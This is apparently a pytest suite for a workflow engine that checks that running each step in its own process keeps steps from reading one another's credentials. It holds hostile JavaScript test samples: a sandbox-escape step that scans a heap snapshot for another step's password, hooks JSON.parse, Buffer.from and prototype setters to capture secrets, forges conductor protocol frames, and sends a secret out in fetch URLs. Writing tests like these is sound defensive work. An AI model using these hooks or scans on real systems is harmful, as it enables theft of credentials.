"""A process for each step: no step can get at the credential of another one."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from typing import Any, cast

import pytest

from holdfast.engine.client import RunHandle, RunRequest
from holdfast.engine.frames import FromRun
from holdfast.journal import blob_path
from holdfast.model.json import Json, JsonObject
from holdfast.model.limits import Limits
from holdfast.model.outcome import Reason
from holdfast.model.record import Kind
from support.engine import ESCAPE, Ended, Running, engine, execute, job, next_record, prepare
from support.waiting import eventually

MINE, OTHERS = "first-step-password", "second-step-password"
OPTIONS: JsonObject = {"process_per_step": True}
#: Looks for texts in all that its process holds, written so that its own text holds none of them.
SEARCH = (
    "const v8 = process.getBuiltinModule('node:v8');"
    " const fs = process.getBuiltinModule('node:fs');"
    " const file = v8.writeHeapSnapshot('all.heapsnapshot');"
    " const all = fs.readFileSync(file, 'utf8');"
    " const found = (...parts) => all.includes(parts.join('-step-'));"
)
#: Hooks what later steps use, and says what it has seen by then.
HOOKING = (
    "export default [state => {" + ESCAPE + SEARCH
    + " const host = process.constructor.constructor('return globalThis')();"
    " host.seen ??= []; const keep = value => { host.seen.push(String(value)); };"
    " const parse = host.JSON.parse;"
    " host.JSON.parse = (...all) => { keep(all[0]); return parse(...all); };"
    " const from = host.Buffer.from;"
    " host.Buffer.from = (...all) => { keep(all[0]); return from(...all); };"
    " for (const name of ['configuration', 'password'])"
    "  Object.getPrototypeOf(host).constructor.defineProperty(host.Object.prototype, name, {"
    "   configurable: true, set(value) { keep(value); Object.defineProperty(this, name, { value,"
    "    writable: true, enumerable: true, configurable: true }); } });"
    " return { data: { own: found('first', 'password'), others: found('second', 'password') } };"
    " }];"
)  # fmt: skip
SECOND = (
    "export default [state => {" + ESCAPE
    + " const host = process.constructor.constructor('return globalThis')();"
    " return { data: { ...state.data, length: state.configuration.password.length,"
    "  seen: (host.seen ?? []).length } }; }];"
)  # fmt: skip
BUSY = "export default [state => { while (true); }];"
LATE = (
    "export default [() => { setTimeout(() => { throw new Error('late'); }, 1);"
    " return new Promise(() => {}); }];"
)
PLAIN = "export default [state => ({ data: { n: (state.data.n ?? 0) + 1 } })];"


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with engine(tmp_path_factory.mktemp("steps"), standby=1) as started:
        yield started


def asked(running: Running, *steps: JsonObject | str, **rest: Any) -> RunRequest:
    return prepare(running, *steps, **{"options": OPTIONS, **rest})


def final_state(ended: Ended) -> Any:
    (result,) = ended.bodies(Kind.RESULT)
    return json.loads(str(cast("JsonObject", result["final_state"])["inline"]))


def attack(running: Running, options: JsonObject, *, inline: bool) -> Any:
    """What the second of two steps, of which the first is hostile, leaves."""
    own: dict[str, Json] = {"a": {"password": MINE}, "b": {"password": OTHERS}}
    steps = [job(HOOKING, next={"b": True}), job(SECOND, id="b", name="B")]
    if inline:
        steps = [{**step, "configuration": own[str(step["id"])]} for step in steps]
    credentials = {} if inline else own
    request = asked(running, *steps, options=options, credentials=credentials)
    ended = execute(running, request)
    assert ended.outcome.reason is Reason.SUCCESS, (ended.outcome, ended.log)
    return final_state(ended)["data"]


@pytest.mark.parametrize("inline", [False, True], ids=["credentials", "plan"])
def test_a_step_sees_nothing_of_the_credential_of_another(
    running: Running, *, inline: bool
) -> None:
    length = len(OTHERS)
    assert attack(running, OPTIONS, inline=inline) == {
        "own": True, "others": False, "length": length, "seen": 0,
    }  # fmt: skip


def test_without_the_option_steps_of_a_run_share_a_process(running: Running) -> None:
    seen = attack(running, {}, inline=False)
    assert seen["others"]
    assert seen["seen"] > 0


def test_state_edges_and_documents_are_as_without_it(running: Running) -> None:
    steps = [
        job(PLAIN, next={"b": True, "c": {"condition": "state.data.n === 1"}, "e": "false"}),
        job("", id="b", name="B", next={"d": {"condition": "state.data.n === 1"}}),
        job("export default [() => undefined];", id="c", name="C", next={"d": True}),
        job("export default [state => ({ ...state, big: 'é😀'.repeat(300000) })];", id="d"),
        job(PLAIN, id="e"),
    ]
    del steps[1]["expression"]
    state: JsonObject = {"data": {}, "kept": "😀"}
    ends = []
    for options in (OPTIONS, {}):
        ended = execute(running, asked(running, *steps, options=options, state=state))
        (result,) = ended.bodies(Kind.RESULT)
        whole = cast("JsonObject", result["final_state"])
        text = blob_path(ended.folder.path, str(whole["blob"])).read_text()
        told = [
            (body["job_id"], body["reason"], body["next"], bool(body.get("output_dataclip_id")))
            for body in ended.bodies(Kind.STEP_COMPLETE)
        ]
        phases = [(body["phase"], body.get("step")) for body in ended.bodies(Kind.PHASE)]
        ends.append((ended.outcome.reason, json.loads(text), told, phases))
    assert ends[0] == ends[1]
    assert [end[0] for end in ends[0][2]] == ["a", "c", "d", "d"]


@pytest.mark.parametrize(
    ("code", "reason", "kind"),
    [
        ("export default [() => { throw new Error('no'); }];", Reason.FAIL, "JobError"),
        ("export default [() => { throw new RangeError('no'); }];", Reason.FAIL, "RuntimeError"),
        (BUSY, Reason.KILL, "TimeoutError"),
        ("export default [async () => { await new Promise(() => {}); }];", Reason.CRASH,
         "DeadlockError"),
        ("export default [state => {" + ESCAPE + "process.reallyExit(7); }];", Reason.CRASH,
         "ExitError"),
        ("export default [() => { const all = []; for (;;) all.push(new Array(1e5).fill({})); }];",
         Reason.KILL, "OOMError"),
        (LATE, Reason.CRASH, "ExecutionError"),
    ],
)  # fmt: skip
def test_a_second_step_ends_as_without_it(
    running: Running, code: str, reason: Reason, kind: str
) -> None:
    limits = Limits(memory_mb=160, timeout_seconds=2 if kind == "TimeoutError" else 60)
    steps = [job(PLAIN, next={"b": True}), job(code, id="b", name="B")]
    ended = execute(running, asked(running, *steps, limits=limits))
    assert (ended.outcome.reason, ended.outcome.error_type) == (reason, kind), ended.outcome
    *before, last = ended.bodies(Kind.STEP_COMPLETE)
    assert (last["reason"], last["error_type"]) == (reason, kind)
    if kind != "TimeoutError":  # a busy machine may not come as far as to the second step
        assert [(step["job_id"], step["reason"]) for step in before] == [("a", "success")]
        assert last["job_id"] == "b"


def test_it_can_be_cancelled_and_leaves_nothing(running: Running) -> None:
    async def cancel(handle: RunHandle) -> None:
        await next_record(handle, Kind.STEP_START)
        await handle.cancel("enough")

    busy = execute(running, asked(running, BUSY), cancel)
    assert (busy.outcome.reason, busy.outcome.error_message) == (Reason.CANCEL, "enough")
    scratch = running.config.data / "scratch"
    eventually(
        lambda: not list(scratch.glob(f"{busy.folder.path.name}*")), "its scratch is removed"
    )


def test_secrets_of_other_steps_are_cleaned_from_what_a_step_says(running: Running) -> None:
    leak = (
        "export default [state => { console.log(state.data.told, { deep: [state.data.told] });"
        " throw new Error(`no ${state.data.told}`); }];"
    )
    tell = "export default [state => ({ data: { told: state.configuration.password } })];"
    steps = [job(tell, next={"b": True}), job(leak, id="b", name="B")]
    ended = execute(running, asked(running, *steps, credentials={"a": {"password": MINE}}))
    assert ended.outcome.error_message == "no ***"
    assert "*** " in ended.log
    documents = (Kind.STEP_COMPLETE, Kind.RESULT)
    told = [body for kind, body in ended.records if kind not in documents]
    assert MINE not in json.dumps(told)


FORGED = (
    "export default [state => {" + ESCAPE + "const fs = process.getBuiltinModule('fs');"
    " const body = Buffer.from(JSON.stringify(%s)); const head = Buffer.alloc(5);"
    " head.writeUInt32LE(body.length); head[4] = %d; fs.writeSync(3, Buffer.concat([head, body]));"
    " for (;;); }];"
)  # fmt: skip


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        (Kind.RESULT, "{ timestamp: '1', reason: 'success' }"),
        (Kind.STEP_START, "{ timestamp: '1', step_id: 'x', job_id: 'b' }"),
        (FromRun.ASK, "{ step: 'b' }"),
        (FromRun.PASS, "'x'"),
        (FromRun.SECRETS, "[]"),
        (FromRun.LEFT, "{ next: [1], document: false }"),
        (FromRun.HANDED, "'x'"),
    ],
)
def test_a_step_cannot_speak_for_the_conductor(running: Running, kind: int, body: str) -> None:
    steps = [job(FORGED % (body, kind), next={"b": True}), job(PLAIN, id="b", name="B")]
    ended = execute(running, asked(running, *steps))
    assert ended.outcome.error_type == "ProtocolViolation", ended.outcome


def test_requests_tell_no_secret_of_another_step(running: Running) -> None:
    tell = "export default [state => ({ data: { told: state.configuration.password } })];"
    ask = (
        "export default [async state => { const told = state.data.told;"
        " await fetch(`http://127.0.0.1:%d/${told}/null`).catch(() => 0);"
        " await fetch(`http://${told}.invalid/`).catch(() => 0); return state; }];"
    )
    options: JsonObject = {**OPTIONS, "egress": "open", "record": True}
    credentials: JsonObject = {"a": {"password": MINE}}
    with socket.socket() as closed:  # nobody listens at it, and nobody else gets its port
        closed.bind(("127.0.0.1", 0))
        asking = job(ask % closed.getsockname()[1], id="b", name="B")
        steps = [job(tell, next={"b": True}), asking]
        ended = execute(running, asked(running, *steps, options=options, credentials=credentials))
    assert ended.outcome.reason is Reason.SUCCESS, (ended.outcome, ended.log)
    requests = ended.bodies(Kind.REQUEST)
    assert [body["number"] for body in requests if body["what"] == "failed"] == [1, 2]
    assert not any("exchange" in body for body in requests)
    documents = (Kind.STEP_COMPLETE, Kind.RESULT)
    told: list[Json] = [body for kind, body in ended.records if kind not in documents]
    told += [body.get("facts") for body in ended.bodies(Kind.STEP_COMPLETE)]
    assert MINE not in json.dumps(told)
    assert MINE not in ended.log
